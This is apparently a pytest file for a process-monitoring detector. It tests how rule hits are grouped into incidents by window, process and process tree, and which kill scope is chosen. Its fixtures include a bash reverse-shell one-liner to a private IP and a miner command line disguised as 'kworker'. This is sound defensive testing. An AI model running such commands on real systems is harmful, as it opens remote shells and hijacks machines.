"""Several rule hits on one offender make one incident, as pure logic."""

from __future__ import annotations

from rome_guard.detect.engine import Engine
from rome_guard.detect.incidents import IncidentBook, kill_rule_finding, primary
from rome_guard.detect.rules import load_rules
from rome_guard.findings import Finding
from tests.detect.helpers import process, subject

WALLET = "4" + "8" * 94
MINER = ["./kworker", "-o", "stratum+tcp://10.9.9.9:3333", "-u", WALLET, "-a", "rx/0",
         "--donate-level=1"]  # fmt: skip


def findings_for(*argv: str, pid: int = 4242):
    return Engine(load_rules([])).evaluate(subject(*argv, pid=pid))


def test_one_miner_many_rules_is_one_incident() -> None:
    findings = findings_for(*MINER)
    assert len(findings) >= 3  # the storm this prevents
    filed = IncidentBook().file(findings, now=0.0)
    assert len(filed) == 1 and filed[0].opened
    incident = filed[0].incident
    assert sorted(incident.rule_ids) == sorted(f.rule.id for f in findings)
    assert incident.rule_ids[0] == primary(findings).rule.id


def test_later_rule_in_the_window_joins_and_repeats_are_dropped() -> None:
    book = IncidentBook(window_s=30)
    first, *rest = findings_for(*MINER)
    opened = book.file([first], now=0.0)[0]
    joined = book.file(rest + [first], now=10.0)
    assert len(joined) == 1 and not joined[0].opened
    assert joined[0].incident is opened.incident
    assert [f.rule.id for f in joined[0].findings] == [f.rule.id for f in rest]
    assert book.file([first], now=11.0) == []  # already listed: nothing new


def test_after_the_window_a_new_incident_opens() -> None:
    book = IncidentBook(window_s=30)
    first, second, *_ = findings_for(*MINER)
    book.file([first], now=0.0)
    later = book.file([second], now=31.0)
    assert len(later) == 1 and later[0].opened


def test_other_process_or_category_is_another_incident() -> None:
    book = IncidentBook()
    miner = findings_for(*MINER, pid=1)
    other = findings_for(*MINER, pid=2)
    shell = findings_for("bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", pid=1)
    filed = book.file(miner + other + shell, now=0.0)
    assert len(filed) == 3 and all(f.opened for f in filed)
    assert {f.incident.category for f in filed} == {"miner", "reverse_shell"}


def test_the_kill_uses_the_widest_scope() -> None:
    shell = findings_for("bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")
    chosen = kill_rule_finding(shell)
    assert chosen is not None and chosen.rule.kill_scope == "tree"
    assert kill_rule_finding([f for f in findings_for(*MINER) if f.rule.action != "kill"]) is None


def test_open_incidents_are_bounded() -> None:
    book = IncidentBook(window_s=1e9, limit=10)
    for pid in range(100):
        book.file(findings_for("/opt/x/xmrig", pid=pid), now=float(pid))
    assert len(book) == 10


# --- one incident per offender tree ----------------------------------------------

SHELL_RULE = load_rules([]).get("shell-stdio-socket")


def _shell_hit(pid: int, *ancestors: int):
    """A shell-stdio-socket finding on pid with the given ancestors
    (nearest first)."""
    lineage = tuple(process("bash", pid=a) for a in ancestors)
    return Finding(SHELL_RULE, process("bash", pid=pid), "fd 0 is a socket", lineage)


def test_hits_on_the_offenders_descendants_join_its_incident() -> None:
    book = IncidentBook()
    shell = book.file([_shell_hit(100, 50, 1)], now=0.0)[0]
    assert shell.opened
    subshells = book.file([_shell_hit(101, 100, 50, 1), _shell_hit(102, 101, 100, 50)], now=1.0)
    assert [f.opened for f in subshells] == [False, False]
    assert all(f.incident is shell.incident for f in subshells)
    assert len(shell.incident.findings) == 3  # the same rule on each process, listed once each


def test_hits_keep_a_long_session_in_one_incident() -> None:
    book = IncidentBook(window_s=30)
    first = book.file([_shell_hit(100, 50)], now=0.0)[0].incident
    for n in range(1, 5):  # a command every 20 s: each within the window of the last
        filed = book.file([_shell_hit(100 + n, 100, 50)], now=20.0 * n)
        assert filed[0].incident is first and not filed[0].opened


def test_an_ancestor_alerted_later_becomes_the_offender() -> None:
    book = IncidentBook()
    child = book.file([_shell_hit(101, 100, 50)], now=0.0)[0].incident
    child.kill_settled = True  # the child was killed
    parent = book.file([_shell_hit(100, 50)], now=1.0)[0]
    assert parent.incident is child and not parent.opened
    assert child.process.pid == 100 and not child.kill_settled  # its wider tree is not killed yet
    chosen = kill_rule_finding(child.findings, child.process)
    assert chosen is not None and chosen.process.pid == 100
    # a later descendant of the new offender joins too
    assert book.file([_shell_hit(103, 100, 50)], now=2.0)[0].incident is child


def test_processes_sharing_an_unalerted_ancestor_are_separate_attacks() -> None:
    """Two reverse shells under the same agent runner (pid 50, never
    alerted itself) are two incidents."""
    book = IncidentBook()
    filed = book.file([_shell_hit(100, 50, 1), _shell_hit(200, 50, 1)], now=0.0)
    assert [f.opened for f in filed] == [True, True]
    assert filed[0].incident is not filed[1].incident
